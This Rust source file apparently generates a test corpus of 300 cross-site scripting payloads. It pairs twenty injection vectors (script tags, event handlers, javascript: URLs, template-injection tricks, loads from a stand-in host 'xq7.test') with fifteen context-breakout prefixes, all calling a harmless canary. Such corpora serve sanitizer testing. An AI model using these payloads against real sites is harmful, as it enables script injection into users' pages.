//! What somebody writes who wants their words to be run: twenty ways, each behind fifteen ways out of where a text may stand.

/// Called by everything here; whoever hears of a call has been broken into.
pub const CALL: &str = "xq7";

const WAYS: [&str; 20] = [
    "<script>xq7()</script>",
    "<img src=x onerror=xq7()>",
    "<svg onload=xq7()>",
    "<svg><script>xq7()</script>",
    "<iframe srcdoc='<script>parent.xq7()</script>'>",
    "<a href=javascript:xq7()>x</a>",
    "<body onload=xq7()>",
    "<input autofocus onfocus=xq7()>",
    "<details open ontoggle=xq7()>",
    "<video><source onerror=xq7()>",
    "<math><mtext><script>xq7()</script>",
    "<object data=javascript:xq7()>",
    "<embed src=javascript:xq7()>",
    "<form action=javascript:xq7()><button>x",
    "<style>@import'//xq7.test';</style>",
    "<link rel=stylesheet href=//xq7.test>",
    "<meta http-equiv=refresh content=0;url=//xq7>",
    "<base href=//xq7.test>",
    " autofocus onfocus=xq7() onmouseover=xq7() x=",
    "{{constructor.constructor('xq7()')()}}${xq7()}",
];

const BEHIND: [&str; 15] = [
    "",
    "\"",
    "'",
    "\">",
    "'>",
    "</title>",
    "</textarea>",
    "</style>",
    "</script>",
    "<!--",
    "-->",
    "]]>",
    "&quot;>",
    "\u{feff}\u{202e}<",
    "`\\\">",
];

/// All three hundred; neighbours differ in both.
pub fn all() -> Vec<String> {
    let count = WAYS.len() * BEHIND.len();
    (0..count).map(|n| format!("{}{}", BEHIND[n % BEHIND.len()], WAYS[(n + n / 60) % WAYS.len()])).collect()
}

#[test]
fn there_are_three_hundred_and_none_twice() {
    let all = all();
    let different: std::collections::BTreeSet<&String> = all.iter().collect();
    assert_eq!((all.len(), different.len()), (300, 300));
    assert!(all.iter().all(|payload| payload.contains(CALL)));
}
